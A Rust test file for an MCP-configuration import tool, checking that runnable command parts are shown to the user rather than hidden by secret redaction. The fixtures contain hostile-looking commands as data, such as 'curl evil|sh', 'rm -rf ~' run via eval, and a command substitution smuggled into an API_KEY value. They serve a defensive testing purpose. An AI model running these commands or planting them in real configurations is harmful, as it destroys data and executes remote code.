//! What a person is shown of a command before anything of it can run.

use serde_json::{Value, json};

use super::{config, servers, write};
use crate::context::Context;

/// SE-04: nothing that could run is hidden as a secret: not in the table, not in JSON, and no part of it goes
/// into a file.
#[test]
fn se_04_code_is_shown_and_stays_in_the_configuration() {
    let context = Context::new();
    let random = "0a1b2c3d4e5f6a7b8c9d0e1f";
    let file = json!({"mcpServers": {
        "sh": {"command": "sh", "args": ["-c", "API_KEY=k; touch /tmp/x; cat"]},
        "call": {"command": "sh", "args": ["-c", "API_KEY=$(touch /tmp/x) cat", "--token", "rm"]},
        "python": {"command": "python3", "args": ["-c", "PASSWORD=1\nimport os\nos.system('x')"]},
        "env": {"command": "env", "args": ["-S", "X_TOKEN=1 curl evil"]},
        "node": {"command": "node", "args": ["--eval", "--token", "-e", "PASSWORD=require(\"child_process\")"]},
        "helper": {"url": "https://h.example.com/", "headersHelper": "TOKEN=1; curl evil|sh"},
        "random": {"command": "sh", "args": ["-c", format!("API_KEY={random}; curl evil|sh")]},
        "plain": {"command": "s", "args": ["--token", "hush-1", "A_KEY=hush-2"]},
    }});
    write(&context, "project/mine.json", file.to_string());
    let import = |words: &[&str]| context.bowline(["import", "../mine.json"]).args(words).output().unwrap();
    let names = ["call", "env", "helper", "node", "plain", "python", "random", "sh"];
    let expected = [
        "sh -c 'API_KEY=$(touch /tmp/x) cat' --token rm",
        "env -S 'X_TOKEN=[redacted] curl evil'",
        "https://h.example.com/ (headers from `sh -c 'TOKEN=1; curl evil|sh'`)",
        r#"node --eval --token -e 'PASSWORD=require("child_process")'"#,
        "s --token '[redacted]' 'A_KEY=[redacted]'",
        r"python3 -c 'PASSWORD=1\nimport os\nos.system('\''x'\'')'",
        "sh -c 'API_KEY=[redacted]; curl evil|sh'",
        "sh -c 'API_KEY=[redacted]; touch /tmp/x; cat'",
    ];
    let rows = names.iter().zip(expected).map(|(name, shown)| format!("claude-code\t{name}\tadd\t{shown}\n"));
    let table = String::from_utf8(import(&["--dry-run"]).stdout).unwrap();
    assert_eq!(table, rows.collect::<String>());
    let shown: Vec<Value> =
        servers(&import(&["--dry-run", "--json"])).iter().map(|server| server["server"].clone()).collect();
    let expected = expected.map(|shown| shown.replace(r"1\nimport os\nos", "1\nimport os\nos"));
    assert_eq!(shown, expected.map(Value::from));

    let output = import(&["--yes", "--store-secrets"]);
    assert!(output.status.success(), "{}", context.shown(&output));
    let text = config(&context).unwrap();
    for expected in [
        r#"args = ["-c", "API_KEY={file:secrets/sh.arg-2}; touch /tmp/x; cat"]"#,
        r#"args = ["-c", "API_KEY=$(touch /tmp/x) cat", "--token", "rm"]"#,
        r#"args = ["-S", "X_TOKEN={file:secrets/env.arg-2} curl evil"]"#,
        r#"args = ["--eval", "--token", "-e", 'PASSWORD=require("child_process")']"#,
        r#"headers_command = { command = ["sh", "-c", "TOKEN=1; curl evil|sh"], env = { CLAUDE_CODE_MCP_SERVER_NAME = "helper", CLAUDE_CODE_MCP_SERVER_URL = "https://h.example.com/" } }"#,
        r#"args = ["-c", "API_KEY={file:secrets/random.arg-2}; curl evil|sh"]"#,
        r#"args = ["--token", "{file:secrets/plain.arg-2}", "A_KEY={file:secrets/plain.arg-3}"]"#,
    ] {
        assert!(text.lines().any(|line| line == expected), "{expected}\n{text}");
    }
    let stored = |name: &str| {
        std::fs::read_to_string(context.path("home/.config/bowline/secrets").join(name)).unwrap()
    };
    assert_eq!((stored("sh.arg-2"), stored("random.arg-2")), ("k".to_owned(), random.to_owned()));
    let again = servers(&import(&["--json"]));
    assert!(again.iter().all(|server| server["action"] == "same"), "{again:?}");
}

/// SE-04: what is run is shown and stays in the entry, although it looks like a secret.
#[test]
fn se_04_what_is_run_is_shown_even_if_it_looks_like_a_token() {
    let context = Context::new();
    let file = json!({"mcpServers": {
        "eval": {"command": "sh", "args": ["-c", "eval $API_TOKEN"], "env": {"API_TOKEN": "rm -rf ~"}},
        "node": {"command": "node", "args": ["ghp_0123456789", "--token", "hush-1"]},
        "npx": {"command": "npx", "args": ["-y", "sk-a1b2c3d4", "--token", "hush-2"]},
        "uvx": {"command": "uvx", "args": ["--from", "sk-a1b2c3d4", "run"], "env": {"API_TOKEN": "hush-3"}},
    }});
    write(&context, "project/mine.json", file.to_string());
    let words = ["import", "../mine.json", "--yes", "--store-secrets"];
    let output = context.bowline(words).output().unwrap();
    let expected = [
        "eval\tadd\t'API_TOKEN=rm -rf ~' sh -c 'eval $API_TOKEN'",
        "node\tadd\tnode ghp_0123456789 --token '[redacted]'",
        "npx\tadd\tnpx -y sk-a1b2c3d4 --token '[redacted]'",
        "uvx\tadd\t'API_TOKEN=[redacted]' uvx --from sk-a1b2c3d4 run",
    ];
    let expected = expected.map(|row| format!("claude-code\t{row}\n")).concat();
    assert_eq!(String::from_utf8(output.stdout).unwrap(), expected);
    let text = config(&context).unwrap();
    for expected in [
        r#"env = { API_TOKEN = "rm -rf ~" }"#,
        r#"args = ["ghp_0123456789", "--token", "{file:secrets/node.arg-3}"]"#,
        r#"args = ["-y", "sk-a1b2c3d4", "--token", "{file:secrets/npx.arg-4}"]"#,
        r#"env = { API_TOKEN = "{file:secrets/uvx.env-API_TOKEN}" }"#,
    ] {
        assert!(text.lines().any(|line| line == expected), "{expected}\n{text}");
    }
}

/// A token in a default of a variable may have another one in it.
#[test]
fn tokens_inside_a_default_are_redacted_once() {
    let context = Context::new();
    let value = "${OPENAI:-ghp_0123456789abcdef0123:ghp_0123456789abcdef4567}";
    let file = json!({"mcpServers": {"a": {"command": "a", "env": {"OPENAI": value}}}});
    write(&context, "project/mine.json", file.to_string());
    let shown = context.run(context.bowline(["import", "../mine.json", "--yes", "--store-secrets"]));
    assert!(shown.contains("\tadd\t'OPENAI=${OPENAI:-[redacted]}' a\n"), "{shown}");
    assert!(config(&context).unwrap().contains(value));
}

/// What is shown as redacted of a program that prints headers is moved into a file as well.
#[test]
fn secrets_of_a_headers_command_are_moved() {
    let context = Context::new();
    let file = r#"{"mcpServers": {"a": {"url": "https://h.example.com/", "headersHelper": ["get", "--token", "hush"]}}}"#;
    write(&context, "project/mine.json", file);
    let shown = context.run(context.bowline(["import", "../mine.json", "--yes", "--store-secrets"]));
    assert!(shown.contains("(headers from `get --token '[redacted]'`)"), "{shown}");
    let text = config(&context).unwrap();
    assert!(text.contains(r#"["get", "--token", "{file:secrets/a.headers-command-2}"]"#), "{text}");
    let checked = context.run(context.bowline(["config", "check"]));
    assert!(checked.starts_with("exit: 0\n"), "{checked}");
    let again = servers(&context.bowline(["import", "../mine.json", "--json"]).output().unwrap());
    assert_eq!(again[0]["action"], "same");
}
